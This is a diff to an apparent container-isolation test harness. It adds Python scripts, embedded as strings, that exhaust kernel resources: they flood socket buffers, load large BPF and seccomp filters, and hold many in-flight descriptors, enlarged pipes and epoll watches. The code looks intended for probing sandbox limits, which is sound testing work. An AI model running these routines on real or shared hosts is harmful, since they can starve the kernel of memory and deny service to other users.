@@ -68,6 +68,112 @@ def inside(script, *options):
 """
 """What an attack by a container engine begins with."""
 
+SOCKETS = r"""
+import contextlib, os, socket
+
+loot = []
+
+def tcp():
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        one = socket.create_connection(server.getsockname())
+        return one, server.accept()[0]
+
+def udp(family=socket.AF_INET, kind=socket.SOCK_DGRAM, address=("127.0.0.1", 0), protocol=0):
+    one, other = (socket.socket(family, kind, protocol) for _ in range(2))
+    other.bind(address)
+    one.connect(other.getsockname())
+    return one, other
+
+def netlink():
+    return udp(socket.AF_NETLINK, socket.SOCK_RAW, (0, 0), 2)
+
+def fill(pair, most=400):
+    keep = []
+    with contextlib.suppress(OSError):
+        while len(keep) < most:
+            one, other = pair()
+            keep.append((one, other))
+            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4_000_000)
+            other.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_000_000)
+            one.setblocking(False)
+            with contextlib.suppress(BlockingIOError):
+                for _ in range(150):
+                    one.send(b"x" * 60_000)
+    return keep
+
+def held_by(keep):
+    held = 0
+    for _, other in keep:
+        other.setblocking(False)
+        with contextlib.suppress(OSError):
+            while said := other.recv(65_536):
+                held += len(said)
+    return held
+
+def fill_all():
+    kept = [fill(pair) for pair in (netlink, udp, tcp)]
+    return sum(map(held_by, kept))
+"""
+"""What fills the buffers of sockets, and tells how many bytes these took."""
+
+FILTERS = r"""
+import ctypes, os, socket, struct
+
+loot = []
+libc = ctypes.CDLL(None, use_errno=True)
+lines = [struct.pack("HBBI", 0x34, 0, 0, 7)] * 4095 + [struct.pack("HBBI", 6, 0, 0, 0x7FFF0000)]
+code = ctypes.create_string_buffer(b"".join(lines))
+program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 4096, ctypes.addressof(code)))
+
+def fill_filters():
+    taken, keep = 0, []
+    for _ in range(900):
+        keep.append(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
+        for option in (26, 51):
+            taken += libc.setsockopt(keep[-1].fileno(), 1, option, program, 16) == 0
+    libc.prctl(38, 1, 0, 0, 0)
+    for _ in range(7):
+        taken += 10 * (libc.prctl(22, 2, program, 0, 0) == 0)
+        taken += 10 * (libc.syscall(317, 1, 0, program) == 0)
+    return taken
+"""
+"""What takes as many filters as it may."""
+
+BY_USER = r"""
+import array, contextlib, ctypes, fcntl, os, select, socket, time
+
+libc = ctypes.CDLL(None, use_errno=True)
+kept = []
+
+def descriptors_under_way():
+    many = array.array("i", [0] * 250)
+    one, other = socket.socketpair()
+    one.setblocking(False)
+    kept.append((one, other))
+    with contextlib.suppress(BlockingIOError):
+        for _ in range(100):
+            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
+
+def large_pipes():
+    for _ in range(100):
+        kept.append(os.pipe())
+        fcntl.fcntl(kept[-1][0], 1031, 1 << 20)
+
+def watches():
+    events = [os.eventfd(0) for _ in range(200)]
+    for _ in range(200):
+        kept.append(select.epoll())
+        for fd in events:
+            kept[-1].register(fd)
+
+def fill_by_user():
+    for use in (descriptors_under_way, large_pipes, watches):
+        for _ in range(3):
+            with contextlib.suppress(OSError):
+                use()
+"""
+"""What uses up what the kernel counts by user, and keeps it."""
+
 TELL = r"""
 if loot:
     os.makedirs("out", exist_ok=True)
